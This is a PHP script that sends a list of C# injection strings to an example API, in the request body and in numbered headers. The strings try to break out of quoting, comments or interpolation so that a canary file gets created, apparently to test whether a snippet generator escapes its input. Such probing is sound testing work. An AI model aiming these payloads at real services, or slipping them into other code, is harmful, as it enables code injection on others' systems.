<?php

$payload = "{System.IO.File.Create(\"snipgen-canary\")}\n{{System.IO.File.Create(\"snipgen-canary\")}}\n\"+System.IO.File.Create(\"snipgen-canary\")+\"\n\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\n\"\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\"\n\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\"\n\\\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\\\"\n@\"\\\"+System.IO.File.Create(\"snipgen-canary\")+\"\n\$\"{System.IO.File.Create(\"snipgen-canary\")}\"\n{0} {x:System.IO.File.Create(\"snipgen-canary\")} {\n}\n\\u0022+System.IO.File.Create(\"snipgen-canary\")+\\u0022\n*/System.IO.File.Create(\"snipgen-canary\");/*\n\u{85}System.IO.File.Create(\"snipgen-canary\");//\n\u{2028}System.IO.File.Create(\"snipgen-canary\");\u{2029}//\n\"\n#line 1\nSystem.IO.File.Create(\"snipgen-canary\");//\n\\";

$curl = curl_init('https://api.example.com/run');
curl_setopt_array($curl, [
    CURLOPT_RETURNTRANSFER => true,
    CURLOPT_POST => true,
    CURLOPT_HTTPHEADER => [
        'X-Try-1: {System.IO.File.Create("snipgen-canary")}',
        'X-Try-2: {{System.IO.File.Create("snipgen-canary")}}',
        'X-Try-3: "+System.IO.File.Create("snipgen-canary")+"',
        'X-Try-4: ""+System.IO.File.Create("snipgen-canary")+""',
        'X-Try-5: """+System.IO.File.Create("snipgen-canary")+"""',
        'X-Try-6: \\"+System.IO.File.Create("snipgen-canary")+\\"',
        'X-Try-7: \\\\"+System.IO.File.Create("snipgen-canary")+\\\\"',
        'X-Try-8: @"\\"+System.IO.File.Create("snipgen-canary")+"',
        'X-Try-9: $"{System.IO.File.Create("snipgen-canary")}"',
        'X-Try-10: {0} {x:System.IO.File.Create("snipgen-canary")} {',
        'X-Try-11: }',
        'X-Try-12: \\u0022+System.IO.File.Create("snipgen-canary")+\\u0022',
        'X-Try-13: */System.IO.File.Create("snipgen-canary");/*',
        "X-Try-14: \u{85}System.IO.File.Create(\"snipgen-canary\");//",
        "X-Try-15: \u{2028}System.IO.File.Create(\"snipgen-canary\");\u{2029}//",
        'X-Try-17: \\',
        'Content-Type: text/plain',
    ],
    CURLOPT_POSTFIELDS => $payload,
]);

$response = curl_exec($curl);
if ($response === false) {
    throw new RuntimeException(curl_error($curl));
}

echo $response;
